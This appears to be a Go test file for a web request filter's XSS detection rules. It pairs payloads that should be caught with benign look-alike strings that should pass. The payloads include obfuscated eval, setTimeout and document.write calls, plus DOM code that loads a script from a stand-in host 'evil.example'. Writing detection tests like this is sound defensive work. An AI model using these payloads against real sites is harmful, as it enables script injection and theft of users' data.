package signature_test

import "testing"

// A code-running sink fed a decoder or the page's own strings, in the
// case payloads write them: "eval(String.fromCharCode(...))" (OWASP's XSS
// filter evasion cheat sheet; the CRS's 934100 tests, Apache-2.0, cut it
// after the decoder's name). Words that only open with a global's name
// are no such argument.
func TestEvalArgumentAnyCase(t *testing.T) {
	checkFamily(t, "xss", []familyCase{
		{"q", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", 0.99},
		{"q", "eval(String.fromCharCode", 0.99},
		{"q", "setTimeout(Location.hash.slice(1))", 0.99},
		{"q", "eval(Atob('YWxlcnQoMSk='))", 0.99},
		{"q", "setInterval(decodeURIComponent(location.hash.slice(1)))", 0.99},
	}, []familyCase{
		{"q", "we eval(Names) of things", 0},
		{"q", "eval(Urlaub) planning", 0},
		{"q", "eval(Something) is evil", 0},
	}, 0.95)
}

// document.write fed a decoder or the page's own strings writes it into
// the page as eval runs it; a script element made and given a source is
// a <script src> tag written as DOM calls (SecLists' EnDe and RSnake
// lists, OWASP's DOM XSS cheat sheet). A literal written, and the method
// named in a sentence, are no more than a hint.
func TestWriteAndScriptElementSinks(t *testing.T) {
	checkFamily(t, "xss", []familyCase{
		{"q", "document.write(unescape(location.hash.slice(1)))", 0.99},
		{"q", "document.writeln(atob(name))", 0.99},
		{"q", "document.write(unescape(a..b))", 0.99},
		{"q", "with(document)getElementsByTagName('head')[0].appendChild(createElement('script')).src='//x.example'", 0.99},
		{"q", `var s=document.createElement("script");s.src="//evil.example/x.js";document.body.appendChild(s)`, 0.99},
		{"body:application/json", `{"note":"document.body.appendChild(document.createElement('script')).text='alert(1)'"}`, 0.99},
	}, []familyCase{
		{"q", `document.write("hello")`, 0},
		{"q", "use document.createElement('script') to add a script", 0},
		{"q", "createElement('div') then appendChild(it)", 0},
		{"q", "document.write(x) is discouraged", 0},
	}, 0.95) // a write of anything else keeps its hint (0.9), which refuses nothing alone
}
